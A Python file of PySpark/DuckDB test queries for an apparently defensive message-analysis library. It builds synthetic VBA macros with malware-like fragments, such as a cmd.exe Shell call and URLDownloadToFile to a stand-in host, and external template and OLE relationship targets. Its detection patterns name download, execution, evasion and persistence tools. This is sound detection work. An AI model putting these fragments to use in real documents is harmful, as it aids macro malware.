"""Queries over what messages carry: macros and relationships of documents, markup, hosts, JSON, threads."""

from __future__ import annotations

import re
import uuid

from pyspark.sql import functions as F

from parapet.functions import logic
from parapet.functions import strings as S
from parapet.functions import tree as H
from parapet.operators import corpus, hashes, learn, macros, scoring
from parapet.plans.queries import RULES, V_VERDICTS, documents, labels, pages, query, table
from parapet.sources import batches, office, threads
from parapet.sources import messages as M
from parapet.sources.shared import shared_dir
from parapet.streaming import ingest

#: A macro made from each document, for Spark and DuckDB alike: an entry point, something it does, and the text as a comment.
MADE_MACRO = """'Attribute VB_Name = "M' || cast(doc_id as string) || '"' || chr(10) || 'Sub ' || case doc_id % 6 when 0 then 'AutoOpen' when 1 then 'Document_Open' when 2 then 'Formatting' when 3 then 'Runtime' when 4 then 'Frame1_Layout' else 'Go' end || '()' || chr(10)
 || case doc_id % 8 when 0 then 'Shell ("cmd.exe /c x")' when 1 then 'Set o = CreateObject("WScript.Shell")' when 2 then 'MsgBox OpenAIKey' when 3 then 'x = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "a"' when 4 then 'URLDownloadToFile 0, "http://e.test/a"' when 5 then 'x = StrReverse("a") : Call y' when 6 then 'Sleep 50000' else 'Environ ("TEMP") : SaveToFile' end
 || chr(10) || case when doc_id % 5 = 0 then 'RegWrite k' when doc_id % 5 = 1 then 'if VMware then Application.DisplayAlerts = False' else 'y = 1' end || chr(10) || '''' || replace(text, chr(10), chr(10) || '''') || chr(10) || 'End Sub'"""


def _macro_sql() -> str:
    words = [("AutoExec", w) for w in macros.AUTO_EXEC] + [("Suspicious", w) for w in macros.SUSPICIOUS]
    word = lambda *ws: "regexp_matches(s, '(?i)\\b(?:" + "|".join(re.escape(w) for w in ws) + ")\\b')"
    text = lambda *ws: "(" + " or ".join(f"contains(lower(s), '{w.lower()}')" for w in ws) + ")"
    families = [
        ("autorun", 2.0, "regexp_matches(s, '(?i)\\bSub\\s+(?:AutoOpen|AutoClose|Document_Open|Workbook_Open|Auto_Open|Document_Close|[0-9A-Z_]*_(?:Paint|Layout|Activate|Startup|Change))\\b')"),
        ("execution", 3.0, word(*"powershell pwsh mshta rundll32 regsvr32 certutil ShellExecute ShellExecuteA ShellExecuteW".split()) + " or " + text("wscript.shell", "winmgmts:", "win32_process", "vba.createobject") + " or regexp_matches(s, '(?i)\\b(Shell|CreateObject|GetObject)\\s*\\(|\\bcmd(\\.exe)?\\s*/[ck]\\b|\\bDeclare\\s+(PtrSafe\\s+)?(Sub|Function)\\b[^\\n]*\\bLib\\b')"),
        ("network", 3.0, word(*"URLDownloadToFile URLDownloadToFileA URLDownloadToFileW bitsadmin iwr".split()) + " or " + text("xmlhttp", "winhttp.winhttprequest", "internetexplorer.application", "adodb.stream", '"http://', '"https://', "backgroundcopymanager", "downloadstring", "downloadfile", "invoke-webrequest", "scripting.filesystemobject") + " or regexp_matches(s, '(?i)environ\\s*\\(\\s*\"(TEMP|APPDATA|TMP|USERPROFILE)\"')"),
        ("obfuscation", 2.5, word("CallByName") + " or " + text("frombase64string", "msxml2.domdocument", "bin.base64") + " or regexp_matches(s, '(?i)(Chr[W$]?\\s*\\(\\s*[0-9]+\\s*\\)\\s*&\\s*){4,}|\\b(StrReverse|Execute|ExecuteGlobal|Eval)\\s*\\(|\\bXor\\b[^\\n]{0,40}\\bAsc\\b|\\bAsc\\b[^\\n]{0,40}\\bXor\\b|(Replace\\s*\\([^\\n]{0,60}){3,}') or regexp_matches(s, '(&H[0-9A-Fa-f]{2}\\s*,?\\s*){8,}|\"[A-Za-z0-9+/=]{300,}\"')"),
        ("evasion", 2.0, word(*"VirtualBox VMware QEMU Sandboxie wireshark SbieDll GetCursorPos Application.Wait".split()) + " or " + text("recentfiles.count", "application.mouseavailable", "automationsecurity", "accessvbom", "vbawarnings") + " or regexp_matches(s, '(?i)\\bSleep\\s+[0-9]{4,}|(EnableEvents|DisplayAlerts)\\s*=\\s*False|Kill\\s+(ThisDocument|Application)\\.FullName')"),
        ("persistence", 1.5, word("schtasks", "Normal.dot", "Normal.dotm") + " or " + text("regwrite", "hkey_current_user", "hkey_local_machine", "\\startup\\", "schedule.service")),
    ]
    lists = ", ".join(f"case when {word(w)} then '{kind}:{w}' end" for kind, w in words)
    held = ", ".join(f"case when {test} then {{'name': '{name}', 'w': {weight}::double}} end" for name, weight, test in families)
    return f"""with m as (select doc_id, {MADE_MACRO} as s from documents),
k as (select doc_id, list_filter([{lists}], lambda x: x is not null) as words, list_filter([{held}], lambda x: x is not null) as families from m),
n as (select *, len(list_filter(words, lambda x: starts_with(x, 'A'))) as auto, len(list_filter(words, lambda x: starts_with(x, 'S'))) as able, coalesce(list_sum(list_transform(families, lambda x: x.w)), 0.0)::double as score from k)
select doc_id, array_to_string(words, ',') as keywords, case when (auto > 0 and able > 0) or able >= 3 then 'high' when auto + able > 0 then 'medium' else 'none' end as risk, array_to_string(list_transform(families, lambda x: x.name), ',') as families, score,
 (len(families) >= 3 and score >= 7) or (len(families) >= 2 and score >= 5) as malicious, case when len(families) >= 3 and score >= 7 then 'high' when len(families) >= 2 and score >= 5 then 'medium' else 'low' end as confidence from n"""


@query(_macro_sql())
def macro_signs(spark, sf):
    """Keywords, risk and families of a macro made from each document, whose words are in it as a comment."""
    made = documents(spark, sf).select("doc_id", F.expr(MADE_MACRO).alias("s")).withColumn("found", macros.signs("s"))
    words = macros.keywords(F.col("found"))
    out = made.select("doc_id", words.alias("k"), macros.behaviour(F.col("s"), F.col("found")).alias("b"))
    return out.select("doc_id", F.array_join(F.transform("k", lambda x: F.concat_ws(":", x["type"], x["keyword"])), ",").alias("keywords"), macros.risk(F.col("k")).alias("risk"), F.array_join("b.families", ",").alias("families"), "b.score", "b.malicious", "b.confidence")


#: A relationships' manifest made from each page.
MADE_RELS = """'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="styles" Target="styles' || cast(page_id as string) || '.xml"/>' || case when page_id % 3 = 0 then '<Relationship Id="r2" Type="attachedTemplate" Target="' || replace(url, '&', '&amp;') || '" TargetMode="External"/>'
 when page_id % 3 = 1 then '<Relationship Id="r2" Type="image" Target="" TargetMode="External"/>' else '<Relationship Id="r2" Type="oleObject" Target="file://10.0.0.' || cast(page_id % 200 as string) || '/s/a.dotm" TargetMode="external"/>' end || case when page_id % 7 = 0 then '' else '</Relationships>' end"""


@query(f"""with m as (select page_id, url from pages where page_id % 7 <> 0),
r as (select page_id, 'r1' as name, 'styles' as type, 'styles' || page_id || '.xml' as target, false as external, null as scheme, null as host from m
 union all select page_id, 'r2', 'attachedTemplate', url, true, split_part(url, ':', 1), regexp_extract(url, '^https?://([^/?#:]+)', 1) from m where page_id % 3 = 0
 union all select page_id, 'r2', 'oleObject', 'file://10.0.0.' || (page_id % 200) || '/s/a.dotm', true, 'file', '10.0.0.' || (page_id % 200) from m where page_id % 3 = 2) select * from r""")
def office_relationships(spark, sf):
    """Relationships of a manifest made from each page; one in seven isn't well-formed and gives none."""
    rows = pages(spark, sf).select("page_id", F.explode(office.relationships(F.expr(MADE_RELS))).alias("r"))
    return rows.select("page_id", "r.name", "r.type", "r.target", "r.external", "r.target_url.scheme", "r.target_url.host")


@query("""with p as (select page_id, html, regexp_extract(html, '(?s)<nav>(.*?)</nav>', 1) as nav, regexp_extract(html, '(?s)<article>(.*?)</article>', 1) as art from pages)
select page_id, regexp_replace(regexp_replace(regexp_replace(regexp_replace(regexp_replace(trim(regexp_extract(art, '(?s)<h1>(.*?)</h1>', 1)), '&lt;?', '<', 'g'), '&gt;?', '>', 'g'), '&quot;?', '"', 'g'), '&#x27;?', '''', 'g'), '&amp;?', '&', 'g') as headline, len(regexp_extract_all(art, '<p[ >]')) as n_paragraphs, len(regexp_extract_all(nav, '<li[ >]')) as n_items,
 array_to_string(regexp_extract_all(nav, '<a href="([^"]*)"', 1), ',') as nav_links, array_to_string(regexp_extract_all(nav, '<a [^>]*>([^<]*)</a>', 1)[2:2], ',') as second_item, len(regexp_extract_all(html, '<a [^>]*href')) as n_links from p""")
def page_paths(spark, sf):
    """Paths over every page: //article/h1, //article/p, //nav//li, their links, //nav/ul/li[2] and all anchors."""
    t, first = F.col("t"), lambda x: F.coalesce(F.get(x, F.lit(0)), F.lit(""))
    df = pages(spark, sf).select("page_id", H.tree("html").alias("t"))
    df = df.select("page_id", "t", H.pick(t, "article").alias("article"), H.pick(t, "nav").alias("nav"))
    items = H.pick(t, "li", F.col("nav"))
    second = H.pick(t, "li", H.pick(t, "ul", F.col("nav"), "child"), "child", lambda n: n["nth"] == 2)
    return df.select(
        "page_id", first(H.inner_text(t, H.pick(t, "h1", F.col("article"), "child"))).alias("headline"), F.size(H.pick(t, "p", F.col("article"), "child")).cast("long").alias("n_paragraphs"), F.size(items).cast("long").alias("n_items"),
        F.array_join(F.transform(F.flatten(H.links(t, F.col("nav"))), lambda x: x["href"]), ",").alias("nav_links"), first(H.inner_text(t, second)).alias("second_item"),
        F.size(H.pick(t, "a", test=lambda n: F.map_contains_key(n["attributes"], "href"))).cast("long").alias("n_links"),
    )


#: Rules of each kind, as public suffix lists have them.
SUFFIX_RULES = ["com", "net", "uk", "co.uk", "jp", "*.kobe.jp", "!city.kobe.jp", "*.ck", "!www.ck", "io", "github.io", "cn", "com.cn", "公司.cn"]
MADE_HOST = """case doc_id % 14 when 0 then 'a.b' || doc_id || '.Com' when 1 then 'x.y' || doc_id || '.co.uk' when 2 then 'co.uk' when 3 then 'w.c' || doc_id % 9 || '.z.kobe.jp' when 4 then 'z' || doc_id % 9 || '.kobe.jp' when 5 then 'h' || doc_id || '.city.kobe.jp'
 when 6 then 'city.kobe.jp' when 7 then 'www.ck' when 8 then 'www.www.ck' when 9 then 'p' || doc_id || '.test.ck' when 10 then 'u' || doc_id || '.github.io' when 11 then 'evil' || doc_id || '.test' when 12 then 'v.w' || doc_id || '.公司.cn' else 'bad host' || doc_id end"""


@query(f"""with h as (select doc_id, lower({MADE_HOST}) as host, string_split(lower({MADE_HOST}), '.') as l from documents), r as (select unnest({SUFFIX_RULES!r}) as rule),
c as (select doc_id, len(l) - i + 1 as n, array_to_string(l[i:], '.') as name, '*' || case when i < len(l) then '.' || array_to_string(l[i + 1:], '.') else '' end as any_ from h, lateral (select unnest(generate_series(1, len(l))) as i)),
m as (select doc_id, max(n) filter (where rule in (name, any_)) as n, min(n - 1) filter (where rule = '!' || name) as less from c join r on rule in (name, any_, '!' || name) group by 1),
t as (select h.*, coalesce(less, n, 1) as n from h left join m using (doc_id) where not contains(host, ' '))
select doc_id, host as domain, array_to_string(l[len(l) - n + 1:], '.') as tld, case when len(l) > n then array_to_string(l[len(l) - n:], '.') end as root_domain, case when len(l) > n then l[len(l) - n] end as sld, case when len(l) > n then array_to_string(l[1:len(l) - n - 1], '.') else '' end as subdomain from t""")
def public_suffixes(spark, sf):
    """Hosts made from the documents' ids, for each kind of rule."""
    d = documents(spark, sf).select("doc_id", S.parse_domain(F.expr(MADE_HOST), SUFFIX_RULES).alias("d")).where("d is not null")
    return d.select("doc_id", "d.domain", "d.tld", "d.root_domain", "d.sld", "d.subdomain")


@query("""select o_orderkey, array_to_string(list_sort(list_distinct(flatten(list([l_returnflag, l_linestatus])))), ',') as flags, coalesce(array_to_string(list_sort(list_distinct(list('b' || l_suppkey) filter (where l_quantity > 40))), ','), '') as large
 from orders join lineitem on l_orderkey = o_orderkey group by 1""")
def json_wildcards(spark, sf):
    """Paths with one and two wildcards over JSON text with nested arrays, made from each order; the second finds nothing in most items."""
    item = lambda x: F.struct(F.array(F.struct(x["l_returnflag"].alias("f")), F.struct(x["l_linestatus"].alias("f"))).alias("flags"), F.when(x["l_quantity"] > 40, F.struct(F.concat(F.lit("b"), x["l_suppkey"]).alias("name"))).alias("by"))
    text = F.to_json(F.struct(F.struct(F.transform("lines", item).alias("parts")).alias("body")))
    df = M.v_orders(spark, sf).where("lines is not null").select("o_orderkey", text.alias("stored"))
    joined = lambda path: F.array_join(corpus.distinct_values(S.json_values(F.col("stored"), path)), ",")
    return df.select("o_orderkey", joined("$.body.parts[*].flags[*].f").alias("flags"), joined("$.body.parts[*].by.name").alias("large"))


@query(f"""with {V_VERDICTS} select message_id, verdict, array_to_string(matched, ',') as matched, lower(sender_email) as event_of from verdicts""")
def stored_batches(spark, sf):
    """Messages stored in two batches that overlap, the second of them twice; then verdicts and sender events as readers see them."""
    root = f"{shared_dir(spark)}/corpus-{uuid.uuid4().hex[:12]}"
    messages = M.v_messages(spark, sf)
    for name, part in (("a", messages.where("message_id % 3 < 2")), ("b", messages.where("message_id % 3 > 0")), ("b", messages)):
        ingest.store_batch(part, RULES, root, name)
    events = batches.read(spark, root, "sender_events").select("message_id", F.col("sender_email").alias("event_of"))
    return batches.read(spark, root, "verdicts").join(events, "message_id").select("message_id", "verdict", F.array_join("matched", ",").alias("matched"), "event_of")


MADE_REPLY = """'Answer ' || doc_id || ' https://new.test/' || doc_id || chr(10) || chr(10) || case doc_id % 3 when 0 then 'On Mon, 2 Jan 2023 at 15:04, User <user' || doc_id || '@x.test> wrote:' || chr(10) || '> ' || replace(text, chr(10), chr(10) || '> ')
 when 1 then '-----Original Message-----' || chr(10) || 'From: User <User' || doc_id || '@x.test>' || chr(10) || 'Sent: Monday' || chr(10) || 'Subject: Case ' || doc_id || chr(10) || chr(10) || text else 'no quote here' end"""


@query(r"""with d as (select doc_id, regexp_replace(regexp_replace(text, '(?m)^[ \t]*(?:>[ \t]?)+', '', 'g'), '^[\s\x0B]+|[\s\x0B]+$', '', 'g') as t from documents)
select doc_id, 'Answer ' || doc_id || ' https://new.test/' || doc_id || case when doc_id % 3 = 2 then chr(10) || chr(10) || 'no quote here' else '' end as current, case when doc_id % 3 < 2 then t end as quoted, case when doc_id % 3 < 2 then 'user' || doc_id || '@x.test' end as author,
 case when doc_id % 3 = 1 then 'Case ' || doc_id end as subject, 'new.test' as host from d""")
def mail_threads(spark, sf):
    """A reply made to each document, which it quotes by marks, under headers, or not at all."""
    df = threads.with_thread(documents(spark, sf).select("doc_id", F.expr(MADE_REPLY).alias("reply")), F.col("reply"), F.lit(None).cast("string"))
    first = F.get("thread.previous", F.lit(0))
    return df.select("doc_id", F.col("thread.current.text").alias("current"), first["text"].alias("quoted"), first["sender"]["email"].alias("author"), first["subject"].alias("subject"), F.get("thread.current.links", F.lit(0))["url"]["host"].alias("host"))


#: A text in each script, the document's own, or too little to tell.
MADE_SCRIPT = """case doc_id % 14 when 0 then 'これは日本語の文章です ' || doc_id when 1 then '이것은 한국어 문장입니다' when 2 then '这是一个中文句子没有假名' when 3 then 'Это предложение на русском языке' when 4 then 'Αυτή είναι μια ελληνική πρόταση' when 5 then 'هذه جملة باللغة العربية'
 when 6 then 'זהו משפט בעברית' when 7 then 'นี่คือประโยคภาษาไทย' when 8 then 'यह हिंदी में एक वाक्य है' when 9 then 'abc Это de' when 10 then '12345 !!' when 11 then 'two words' else text end"""


def _script_sql() -> str:
    of = lambda *names: "len(list_filter(l, lambda c: regexp_matches(c, '[" + "".join(f"\\p{{{n}}}" for n in names) + "]')))"
    scripts = " ".join(f"when {of(s)} * {6 if s == 'Hangul' else 2} > len(l) then '{name}'" for name, s in [("korean", "Hangul"), ("chinese", "Han"), ("russian", "Cyrillic"), ("greek", "Greek"), ("arabic", "Arabic"), ("hebrew", "Hebrew"), ("thai", "Thai"), ("hindi", "Devanagari")])
    words = {"english": "the of and to in is that it was for on are", "french": "le la les de et un une est des que pour dans", "german": "der die das und ist von mit den ein eine zu im", "spanish": "el la de que y en los un por con una las"}
    shares = ", ".join(f"{{'s': len(list_intersect(list_distinct(w), {v.split()!r})) / {len(v.split())}.0::double, 'k': '{k}'}}" for k, v in words.items())
    return f"""with t as (select doc_id, {MADE_SCRIPT} as t from documents), l as (select doc_id, regexp_extract_all(t, '\\p{{L}}') as l, list_filter(regexp_split_to_array(lower(t), '[^\\p{{L}}]+'), lambda w: w <> '') as w from t),
s as (select *, case when {of("Hiragana", "Katakana")} > 0 and 30 * {of("Hiragana", "Katakana")} >= len(l) then 'japanese' {scripts} end as script, list_sort([{shares}], 'desc') as r, 2 * {of("Latin")} > len(l) and len(w) >= 3 as latin from l),
f as (select doc_id, script, latin and r[1].s > 0 and r[1].s - r[2].s > 0.05 as told, r[1].k as k, r[1].s - r[2].s as lead from s)
select doc_id, coalesce(script, case when told then k end) as language, round(case when script = 'japanese' then 0.95 when script is not null then 0.85 when told then lead end, 9)::double as confidence from f"""


@query(_script_sql())
def language_by_script(spark, sf):
    d = documents(spark, sf).select("doc_id", F.explode(F.array(scoring.detected(F.expr(MADE_SCRIPT)))).alias("d"))
    return d.select("doc_id", "d.language", F.round("d.confidence", 9).alias("confidence"))


@query("""select doc_id as message_id, 'list' as kind, 'hosts' as source, 'host' || doc_id % 50 || '.test' as value from documents where doc_id % 50 in (3, 7, 11) and doc_id % 4 <> 0""")
def grown_list(spark, sf):
    """A list of hosts gained three: what they find in the index of links, less what was found before."""
    path = f"{shared_dir(spark)}/links-{uuid.uuid4().hex[:12]}"
    links = documents(spark, sf).select(F.col("doc_id").alias("message_id"), F.expr("'Host' || doc_id % 50 || '.test'").alias("value"))
    corpus.index_values(links, path)
    hosts = links.select("value").distinct()
    before, after = hosts.where("value in ('Host1.test', 'Host2.test')"), hosts.where("value in ('Host1.test', 'Host2.test', 'Host3.test', 'Host7.test', 'Host11.test')")
    known = links.where("message_id % 4 = 0").select("message_id", F.lit("list").alias("kind"), F.lit("hosts").alias("source"))
    return corpus.grown_list(spark, path, before, after, known, "hosts")


@query("""with h as (select doc_id, list_reduce(list_concat([2166136261::bigint], list_transform(string_split(doc_id::varchar, ''), lambda c: ascii(c)::bigint)), lambda h, b: (xor(h, b) * 16777619) % 4294967296) as h from labels)
select doc_id, h as hash, h % 1000 < 200 as held from h""")
def held_out(spark, sf):
    key = F.col("doc_id").cast("string")
    return labels(spark, sf).select("doc_id", learn.fnv1a(key).alias("hash"), learn.split(key).alias("held"))


@query()
def agreement(spark, sf):
    """Weights of a model of the labels over signs of the documents (a test holds the fit against brute force)."""
    signs = {"digits": r"\d{3}", "marks": r"[#$%&|]{2}", "shouting": r"!!", "long_word": r"\w{16}", "several_lines": r"\n", "colon": r":"}
    rows = labels(spark, sf).join(documents(spark, sf), "doc_id").select("doc_id", (1 - F.col("quality")).alias("label"), *[F.rlike("text", F.lit(p)).cast("int").alias(n) for n, p in signs.items()])
    model = learn.fit(rows, list(signs), key="doc_id")
    return spark.createDataFrame([*model["weights"].items(), ("(intercept)", model["intercept"])], "feature string, weight double")


@query("""with w as (select url, timestamp '2024-01-01' + to_minutes(page_id % 600) as added, page_id % 5 as attempts, timestamp '2024-01-01' + to_minutes(page_id % 600 + 30) as last from pages),
d as (select url, attempts + 1 as attempt, case when attempts = 0 then added + to_minutes(30) else last + to_hours(6) end as due from w where attempts < 4) select url, attempt, cast(due as varchar) as due from d where due <= timestamp '2024-01-01 09:00:00' order by d.due, url limit 25""")
def due_visits(spark, sf):
    """What one round takes of the pages' links that are due."""
    at = lambda minutes: F.timestamp_seconds(F.lit(1704067200) + minutes * 60)
    watches = pages(spark, sf).select("url", at(F.col("page_id") % 600).alias("added_at"), (F.col("page_id") % 5).alias("attempts"), at(F.col("page_id") % 600 + 30).alias("last_at"))
    return ingest.due_visits(watches, F.lit("2024-01-01 09:00:00").cast("timestamp")).select("url", "attempt", F.date_format("due", "yyyy-MM-dd HH:mm:ss").alias("due"))


@query("""select doc_id, doc_id % 4 < 3 as same from documents""")
def case_folding(spark, sf):
    """Pairs that differ in case only, also where small letters have two forms, and pairs that don't."""
    a = F.expr("case doc_id % 4 when 0 then 'ΟΔΟΣ' || doc_id when 1 then 'Straſſe' || doc_id when 2 then upper(lang) || 'µ' else 'a' end")
    b = F.expr("case doc_id % 4 when 0 then 'οδος' || doc_id when 1 then 'STRASSE' || doc_id when 2 then lang || 'Μ' else 'b' end")
    return documents(spark, sf).select("doc_id", logic.same_text(a, b).alias("same"))


@query("""with c as (select vec_id, list_sum(list_transform(embedding, lambda x, i: case when x > 0 then (1::hugeint << (i - 1)::int) else 0 end))::hugeint as h from embeddings),
s as (select vec_id, (case when h >= 9223372036854775808::hugeint then h - 18446744073709551616::hugeint else h end)::bigint as h from c),
k as (select vec_id as known_id, xor(h, (1::bigint << (vec_id // 50 % 20)::int) - 1) as k from s where vec_id % 50 = 0)
select vec_id as id, known_id, bit_count(xor(h, k))::int as distance from s, k where bit_count(xor(h, k)) <= 13""")
def near_hashes(spark, sf):
    """Sign codes of all embeddings near known codes, which are some of them with up to 19 bits changed."""
    codes = table("embeddings")(spark, sf).select(F.col("vec_id").alias("id"), hashes.sign_code(F.col("embedding")).alias("hash"))
    changed = F.expr("hash ^ (shiftleft(1L, cast((id div 50) % 20 as int)) - 1)")
    return hashes.near(codes, codes.where("id % 50 = 0").select(F.col("id").alias("known_id"), changed.alias("hash")))
